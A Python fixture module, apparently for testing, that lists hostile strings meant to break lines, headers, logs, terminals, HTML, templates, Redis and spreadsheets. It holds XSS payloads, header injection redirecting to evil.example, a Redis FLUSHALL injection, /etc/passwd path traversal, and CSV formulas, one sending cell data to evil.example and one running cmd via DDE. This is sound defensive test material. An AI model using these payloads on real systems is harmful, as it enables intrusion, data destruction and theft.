"""Texts that break what was written for friendly ones: lines, frames, pages, spreadsheets, terminals.

Rules: every one is valid Unicode that JSON can carry; `LONE` are those that JSON can spell and UTF-8 cannot.
"""

MARKER = "hostile"  # stands in each, so that a text is found where it turns up

TEXTS = {
    "line ends": f"{MARKER}\r\n\r\nevent: end\ndata: {{}}\n\n",
    "a header": f"{MARKER}\r\nSet-Cookie: voter=stolen\r\nLocation: //evil.example",
    "a log line": f"{MARKER}\n2026-11-24T00:00:00.000Z level=critical event=forged",
    "NUL": f"{MARKER}\0after",
    "controls": MARKER + "".join(map(chr, range(0x01, 0x20))) + "\x7f\x80\x9f",
    "escape sequences": f"{MARKER}\x1b[2J\x1b]0;title\x07\x9b31m",
    "separators": f"{MARKER}\u2028next\u2029paragraph\u0085line\x0b\x0c",
    "other directions": f"{MARKER}\u202egnp.exe\u202c\u2066a\u2069\u200f\u061c",
    "invisible": f"{MARKER}\ufeff\u200b\u200d\u2060\u00ad\U000e0041",
    "combining": MARKER + "\u0301" * 150,
    "no characters": f"{MARKER}\ufffe\uffff\U0001ffff\ufdd0",
    "private and far": f"{MARKER}\ue000\U0010ffff\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "markup": f"{MARKER}<script>document.title='owned'</script><img src=x onerror=document.title='owned'>",
    "an attribute": f"{MARKER}\" onfocus=document.title='owned' autofocus x='",
    "a comment": f"{MARKER}--><svg onload=document.title='owned'><!--",
    "an entity": f"{MARKER}&lt;b&gt;&#60;script&#62;&amp;",
    "an address": f"{MARKER} javascript:document.title='owned'//",
    "a template": f"{MARKER}{{{{static}}}}${{7*7}}#{{7*7}}<%= 7*7 %>%s%n%(x)s{{0}}",
    "a prototype": f"{MARKER} __proto__ constructor",
    "a script of the store": f"{MARKER}' redis.call('FLUSHALL') --\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "a path": f"{MARKER}/../../../../etc/passwd%00%2e%2e%2f",
}

LONE = [r"\ud800", r"\udfff", r"\udc00\ud800", r"x\ud83dy"]

# What a spreadsheet takes for a formula, also after what it drops.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\0=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", '","=1+1',
]  # fmt: skip
